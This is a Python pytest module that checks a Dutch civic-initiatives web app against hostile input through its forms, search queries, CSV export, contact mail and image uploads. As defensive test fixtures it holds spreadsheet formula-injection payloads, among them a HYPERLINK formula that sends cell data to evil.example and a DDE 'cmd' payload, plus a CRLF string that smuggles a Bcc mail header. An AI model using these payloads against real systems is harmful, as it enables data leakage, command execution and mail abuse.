"""Hostile input through the real forms and query strings, on the suite's database: no 5xx,
NUL characters never stored, CSV exports that no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from initiatives.models import Initiative
from participation.models import Comment
from platform_core import transaction
from platform_core.extensions import db, limiter

from .conftest import INSIDE, login, post_form
from .hostile import LONG, WITH_NUL, corpus

SAMPLE = [*corpus()[::15], *LONG, *WITH_NUL]


@pytest.fixture
def no_limits(monkeypatch):
    """These tests are about what input does, not how often: limits have their own tests."""
    monkeypatch.setattr(limiter, "enabled", False)


def test_hostile_initiatives_and_comments_through_the_forms(app, client, make_user, no_limits):
    make_user("sanne@example.nl")
    login(client, "sanne@example.nl")
    created = 0
    for text, extra in [(t, True) for t in SAMPLE] + [(t, False) for t in SAMPLE]:
        data = {
            "title": text[:120],
            "summary": (text + " samenvatting")[:300],
            "description": text,
            "type": "initiative",
            "status": "idea",
            "lat": str(INSIDE[0]),
            "lon": str(INSIDE[1]),
            "address": text[:200],
            "links": text[:300],
            "budget_requested": text[:20],
            "contact_name": text[:80],
        }
        if not extra:  # the same text where a person writes, with the other fields left empty
            data.update(links="", budget_requested="", contact_name="")
        resp = post_form(client, "/initiatieven/nieuw", data)
        assert resp.status_code in (302, 400), (text[:40], resp.status_code)
        created += resp.status_code == 302
    assert created > 0
    with app.app_context():
        item = db.session.scalars(select(Initiative)).first()
        for text in SAMPLE:
            resp = post_form(
                client, f"/initiatieven/{item.id}/reacties", {"body": text}, token_from=f"/initiatieven/{item.id}"
            )
            assert resp.status_code in (302, 400), (text[:40], resp.status_code)
        stored = [*db.session.scalars(select(Initiative.title)), *db.session.scalars(select(Comment.body))]
    assert stored
    assert not [s for s in stored if "\x00" in s]


@pytest.mark.parametrize("path", ["/initiatieven?q={}", "/api/initiatives?q={}", "/?q={}", "/api/geocode?q={}"])
def test_hostile_queries_are_answered_without_errors(client, path, no_limits):
    for text in corpus():
        resp = client.get(path.format(text[:300].replace("&", "%26").replace("#", "%23")))
        assert resp.status_code < 500, (path, text[:40], resp.status_code)


def test_csv_exports_do_not_run_formulas(app, client, make_user, place):
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+31 6 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    owner = make_user("ilse@example.nl")
    for f in formulas:
        place(owner, title=f)
    make_user("raad@gemeente.nl", roles=("council",))
    login(client, "raad@gemeente.nl")
    body = client.get("/raad/export/initiatieven.csv").get_data(as_text=True)
    titles = [row[1] for row in csv.reader(io.StringIO(body))][1:]
    assert sorted(titles) == sorted("'" + f for f in formulas)
    assert all(not t.startswith(("=", "+", "-", "@")) for t in titles)


def test_a_title_cannot_add_headers_to_mail(app, client, make_user, place, smtp_server):
    owner = make_user("ilse@example.nl")
    item = place(owner, title="Tuin\r\nBcc: slachtoffer@example.nl\r\nX-Kop: ja")
    post_form(
        client,
        f"/initiatieven/{item}/contact",
        {"name": "Sanne", "email": "sanne@example.nl", "message": "Ik wil graag meehelpen met de tuin."},
        token_from=f"/initiatieven/{item}",
    )
    ((rcpts, msg),) = smtp_server.messages
    assert rcpts == ["ilse@example.nl"]
    assert msg["Bcc"] is None
    assert msg["X-Kop"] is None
    assert "\n" not in str(msg["Subject"])


def test_hostile_alternative_texts_for_pictures(app, client, make_user, place, no_limits):
    from initiatives.models import InitiativeImage

    from .imagefiles import sample_png

    owner = make_user("sanne@example.nl")
    item = place(owner)
    login(client, "sanne@example.nl")
    for text in SAMPLE[:12]:
        resp = post_form(
            client,
            f"/initiatieven/{item}/fotos",
            {"alt": text[:300], "image": (io.BytesIO(sample_png()), text[:100] + ".png")},
            content_type="multipart/form-data",
        )
        assert resp.status_code in (302, 400), (text[:40], resp.status_code)
        with app.app_context():
            for image in db.session.scalars(select(InitiativeImage)):
                db.session.delete(image)
            transaction.commit()
    with app.app_context():
        assert not [a for a in db.session.scalars(select(InitiativeImage.alt)) if "\x00" in a]


def test_area_filters_with_unusual_digits_are_not_errors(client):
    """Found by schemathesis: '²' is a digit to str.isdigit() but not to int()."""
    for value in ("²", "١٢", "9" * 30, "0"):
        assert client.get(f"/api/initiatives?bbox=4,52,6,53&zoom=16&area={value}").status_code < 500
        assert client.get(f"/initiatieven?area={value}").status_code < 500
